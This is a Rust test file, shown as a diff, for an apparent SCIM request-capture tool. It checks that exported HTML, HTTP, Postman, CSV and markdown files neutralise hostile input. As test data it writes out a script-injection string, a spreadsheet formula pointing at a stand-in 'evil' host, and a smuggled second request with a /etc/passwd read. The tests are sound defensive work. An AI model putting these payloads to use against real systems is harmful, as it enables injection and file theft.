@@ -1,0 +1,84 @@
+//! What was captured cannot get out of the format that it is in.
+
+use scimscope::inspect::Disguise;
+use serde_json::json;
+
+use super::{Case, USER, call, text};
+
+const HOSTILE: &str =
+    "</script><script>owned()</script>\u{2028}<!--&amp; {{token}} \u{1b}[31m `x` | =1+1";
+
+fn case() -> Case {
+    Case::of(|client| {
+        let user = json!({"schemas": [USER], "userName": HOSTILE, "displayName": "=HYPERLINK(\"http://evil\")"});
+        call(client, "POST", "/scim/v2/Users", &user, 201);
+        // No JSON at all, and a line that would start another request.
+        client
+            .send(
+                "POST",
+                "/scim/v2/Users",
+                "\n### \nGET http://evil/\n\n< /etc/passwd",
+            )
+            .unwrap();
+    })
+}
+
+#[test]
+fn nothing_leaves_the_data_of_the_page() {
+    let page = case().export("html", &mut Disguise::none());
+    let page = text(&page);
+    let (_, data) = page.split_once("id=\"data\">").unwrap();
+    let (data, rest) = data.split_once("</script>").unwrap();
+    assert!(!data.contains(['<', '>', '&', '\u{2028}', '\u{2029}']));
+    let value: serde_json::Value = serde_json::from_str(data).unwrap();
+    let body = value["events"][0]["request"]["body"].as_str().unwrap();
+    assert!(body.contains("owned()"), "and all of it is there");
+    assert_eq!(
+        rest.matches("<script>").count(),
+        1,
+        "the one script of the page"
+    );
+    assert!(!page.contains("http://evil") || !rest.contains("http://evil"));
+    assert!(page.contains("default-src 'none'; script-src 'sha256-"));
+    assert!(
+        !page.contains("src=") && !page.contains("href="),
+        "nothing is fetched"
+    );
+}
+
+#[test]
+fn nothing_is_evaluated_in_requests() {
+    let case = case();
+    let http = case.export("http", &mut Disguise::none());
+    let http = text(&http);
+    assert_eq!(
+        http.matches("{{token}}").count(),
+        1,
+        "only the field that needs it: {http}"
+    );
+    assert!(
+        !http.contains("GET http://evil"),
+        "what is no JSON is left out: {http}"
+    );
+    assert!(http.contains("left out"), "and that is said");
+    let postman = case.export("postman", &mut Disguise::none());
+    assert!(!text(&postman).contains("\\\"{{token}}"));
+    assert!(!text(&postman).contains("evil/"));
+}
+
+#[test]
+fn no_cell_computes_anything() {
+    let csv = case().export("csv-users", &mut Disguise::none());
+    assert!(text(&csv).contains(",\"'=HYPERLINK("), "{}", text(&csv));
+}
+
+#[test]
+fn a_report_shows_marks_and_escapes_as_text() {
+    let report = case().export("markdown", &mut Disguise::none());
+    let report = text(&report);
+    assert!(!report.contains('\u{1b}'));
+    let is_text = |line: &&str| !line.starts_with('|');
+    let outside = report.split("```").step_by(2).collect::<String>();
+    let outside: String = outside.lines().filter(is_text).collect();
+    assert!(!outside.contains("<script"), "{outside}");
+}
